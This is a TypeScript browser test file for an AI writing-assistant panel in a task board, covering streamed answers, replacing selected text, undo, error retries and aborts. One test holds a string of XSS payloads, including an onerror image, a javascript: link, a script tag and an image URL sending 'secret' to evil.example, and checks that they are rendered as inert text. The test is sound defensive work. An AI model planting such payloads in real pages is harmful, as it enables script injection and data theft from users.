import { expect, test } from "vitest";
import { type Locator, page } from "vitest/browser";
import { expectPartAccessible } from "@/components/testing/axe";
import { aTaskWithComments, commentField, expectWritten } from "@/components/testing/comments";
import { streamAnswers } from "@/components/testing/events";
import {
  button,
  dialogOf,
  expectCount,
  expectFocus,
  expectGone,
  expectText,
  expectValue,
  expectVisible,
  press,
} from "@/components/testing/screen";
import { refusal, server } from "@/components/testing/server";
import { showTask } from "@/components/testing/show";
import {
  aTaskOnServer,
  beginWriting,
  closeTaskDialog,
  openTaskDialog,
  tools,
  writing,
} from "@/components/testing/task";

const GENERATE = "POST /boards/v2/ai/generate";
const PICTURE = '<img src="https://example.com/van.png" alt="A van">';
const viewer = { hasAssistant: true };

const panel = () => dialogOf("Assistant");
const answer = () => page.getByRole("region", { name: "Answer" });
const wish = (name = "Or ask for something") => panel().getByRole("textbox", { name });
const opener = () => button("Assistant", tools());
const action = (name: string) => button(name, panel());

async function writeDescription(description: string | null, options: Parameters<typeof aTaskOnServer>[1] = { viewer }) {
  const shown = aTaskOnServer({ description }, options);
  await showTask(shown.world, shown.task);
  await beginWriting(description === null ? "Add a description…" : "Edit description");
  return { ...shown, stored: () => shown.world.stored(shown.task.id).description };
}

async function open(from: Locator = opener()) {
  await from.click();
  await expectVisible(panel());
}

/** Asks for an action, which answers at once. */
async function answerTo(name: string, content: string) {
  const stream = streamAnswers(GENERATE);
  await action(name).click();
  await expect.poll(() => server.requests(GENERATE)).not.toHaveLength(0);
  stream.send("text", { text: content });
  stream.send("done", { content });
  await expectVisible(button("Discard", panel()));
  await expectGone(button("Stop", panel()));
  return stream;
}

test("there is no trace of it at a text while it is off", async () => {
  await writeDescription("<p>Old</p>", {});
  await commentField().click();

  // Of the description and of the comment.
  await expectCount(button("Bold", tools()), 2);
  expect(page.getByRole("button", { name: "Assistant" }).elements()).toEqual([]);
});

test("an answer arrives piece by piece, replaces the text on request, and one undo brings the text back", async () => {
  const { stored, world } = await writeDescription(`<p>We need a <strong>big</strong> van.</p><p>${PICTURE}</p>`);
  await open();
  await expectFocus(action("Improve"));
  await expectPartAccessible(panel());
  const stream = streamAnswers(GENERATE);
  await press("{ArrowDown}{ArrowDown}{Enter}");
  await expectFocus(answer());

  stream.send("text", { text: "## Van\n\n- [ ] ren" });
  await expectVisible(answer().getByText("ren", { exact: true }));
  stream.send("text", { text: "t\n- [x] fuel\n\n![A van](picture-1)" });
  stream.send("done", { content: "## Van\n\n- [ ] rent\n- [x] fuel\n\n![A van](picture-1)" });
  await expectVisible(button("Replace text", panel()));
  await expectPartAccessible(panel());
  expect(server.bodies(GENERATE)).toEqual([
    {
      action: "shorten",
      content: "We need a **big** van.\n\n![A van](picture-1)",
      prompt: "",
      tone: "",
      context: { task_title: "Rent a van", board_title: world.board.title },
    },
  ]);
  expect(server.requests(GENERATE)[0]?.headers.get("accept")).toBe("text/event-stream");

  await button("Replace text", panel()).click();
  await expectGone(panel());
  await expectFocus(writing());
  await expectVisible(writing().getByRole("heading", { name: "Van" }));
  await expect.element(writing().getByRole("checkbox", { name: "fuel" })).toBeChecked();
  await press("{Escape}");
  await expectGone(writing());
  expect(stored()).toContain('src="https://example.com/van.png"');

  await beginWriting();
  await open();
  await answerTo("Improve", "All new.");
  await button("Replace text", panel()).click();
  await expectGone(writing().getByRole("heading", { name: "Van" }));
  await press("{Control>}z{/Control}");
  await expectVisible(writing().getByRole("heading", { name: "Van" }));
});

test("only what is selected is sent and replaced", async () => {
  const { stored } = await writeDescription("<p>here and there</p>");
  await writing()
    .getByText("here and there")
    .dblClick({ position: { x: 10, y: 8 } });
  await expect.poll(() => String(getSelection()).trim()).toBe("here");
  await open();
  await expectVisible(panel().getByRole("group", { name: "Change the selected text" }));
  await answerTo("Improve", "**there**");

  await button("Replace selection", panel()).click();
  await press("{Escape}");
  await expectGone(writing());

  expect(server.bodies(GENERATE)[0]).toMatchObject({ content: "here" });
  expect(stored()).toMatch(/^<p><strong>there<\/strong> ?and there<\/p>$/);
});

test("S33: HTML in an answer is text, and no script, address or picture of it gets into the page", async () => {
  const { stored } = await writeDescription("<p>Old</p>");
  await open();
  const content =
    '<img src=x onerror="alert(1)"> [click](javascript:alert(1)) ![all](https://evil.example/?q=secret) <script>alert(1)</script> ![x](/wp-admin/admin-ajax.php)';
  await answerTo("Make longer", content);

  await expectVisible(answer().getByText("<img src=x", { exact: false }));
  expect(answer().element().querySelectorAll("img, a, script")).toHaveLength(0);
  await button("Replace text", panel()).click();
  expect(writing().element().querySelectorAll("img[src], a, script")).toHaveLength(0);
  await press("{Escape}");
  await expectGone(writing());

  expect(stored()).not.toMatch(/<img|<a |<script|evil|javascript:/);
});

test("an empty text can only be written; what was asked for is kept until then, and Stop keeps what has arrived", async () => {
  const { stored } = await writeDescription(null);
  await open();
  await expectFocus(wish("What should it write?"));
  expect(panel().getByRole("group").elements()).toEqual([]);
  await press("{Enter}");
  await expectVisible(panel().getByText("Enter what you want."));
  await wish("What should it write?").fill("A list for the van");
  await panel().getByLabelText("Tone").selectOptions("Friendly");
  await press("{Escape}");
  await expectGone(panel());
  await expectFocus(writing());
  await open();
  await expectValue(wish("What should it write?"), "A list for the van");
  const stream = streamAnswers(GENERATE);
  await press("{Enter}");

  await expectFocus(answer());
  stream.send("text", { text: "Keys and fuel" });
  await expectText(answer(), "Keys and fuel");
  await button("Stop", panel()).click();
  await expect.poll(stream.isAborted).toBe(true);
  await expectFocus(answer());
  await button("Insert", panel()).click();
  await press("{Escape}");
  await expectGone(writing());

  expect(server.bodies(GENERATE)).toMatchObject([
    { action: "write", content: "", prompt: "A list for the van", tone: "friendly" },
  ]);
  expect(stored()).toBe("<p>Keys and fuel</p>");
});

test("a refusal, and a lost connection, say why, and can be tried again", async () => {
  await writeDescription("<p>Old</p>");
  await open();
  server.answer(GENERATE, () => refusal(422, "The provider says: no credit."));
  await action("Shorten").click();
  await expectVisible(panel().getByRole("alert").getByText("The provider says: no credit."));

  server.answer(GENERATE, () => refusal(429, "Too many", "rest_too_many"));
  await button("Try again", panel()).click();
  await expectVisible(
    panel()
      .getByRole("alert")
      .getByText(/Too many|try again/i),
  );

  const stream = streamAnswers(GENERATE);
  await button("Try again", panel()).click();
  await expect.poll(() => server.requests(GENERATE)).toHaveLength(3);
  stream.send("text", { text: "Half" });
  await expectText(answer(), "Half");
  stream.lose();
  await expectVisible(panel().getByRole("alert"));

  await button("Try again", panel()).click();
  await expect.poll(() => server.requests(GENERATE)).toHaveLength(4);
  stream.send("failed", { message: "The provider takes too long to answer.", data: { status: 422 } });
  await expectVisible(panel().getByRole("alert").getByText("The provider takes too long to answer."));
  await button("Discard", panel()).click();
  await expectFocus(action("Improve"));
});

test("a text that was changed meanwhile is not replaced: the answer comes at the cursor", async () => {
  const { stored } = await writeDescription("<p>Old</p>");
  await open();
  const stream = streamAnswers(GENERATE);
  await action("Improve").click();
  await expectFocus(answer());
  await writing().click({ position: { x: 20, y: 20 } });
  await expectFocus(writing());
  await press("{Control>}{End}{/Control} and new");
  stream.send("done", { content: "- one\n- two" });

  await expectVisible(panel().getByText(/The text has changed since/));
  await button("Insert", panel()).click();
  await press("{Escape}");
  await expectGone(writing());

  expect(stored()).toBe("<p>Old and new</p><ul><li><p>one</p></li><li><p>two</p></li></ul>");
});

test("closing the task ends the request", async () => {
  const { world } = aTaskOnServer({ description: "<p>Old</p>" }, { viewer });
  await openTaskDialog(world);
  await beginWriting();
  await open();
  const stream = streamAnswers(GENERATE);
  await action("Improve").click();
  await expectFocus(answer());

  await closeTaskDialog();

  await expect.poll(stream.isAborted).toBe(true);
});

test("a comment gets an answer with its formats where it was, and one undo brings the old words back", async () => {
  const { world, task } = aTaskWithComments({ viewer });
  await showTask(world, task);
  await commentField().fill("helo Max");
  const opener = button("Assistant", page.getByRole("toolbar", { name: "Formatting" }));
  await open(opener);
  await wish().click();
  await wish().fill("Be polite");
  await expectPartAccessible(panel());
  const stream = streamAnswers(GENERATE);
  await action("Change text").click();
  await expect.poll(() => server.requests(GENERATE)).toHaveLength(1);
  stream.send("done", { content: "## **Hello** Max,\n\n* see [this](https://example.com)\n* <b>and</b>" });
  await button("Replace text", panel()).click();

  await expectWritten(commentField(), "Hello Max,\nsee this<b>and</b>\n");
  await expectFocus(commentField());
  await press("{Control>}z{/Control}");
  await expectWritten(commentField(), "helo Max");
  expect(server.bodies(GENERATE)).toMatchObject([{ action: "custom", content: "helo Max", prompt: "Be polite" }]);
  await commentField().fill("");
});

test("a text that is longer than the assistant reads is not changed, because its end would be lost", async () => {
  await writeDescription(`<p>${"long ".repeat(2_500)}</p>`);
  await open();

  await expectVisible(panel().getByText(/up to 12,000 characters/));
  expect(panel().getByRole("group").elements()).toEqual([]);
  await expectVisible(wish("What should it write?"));
});
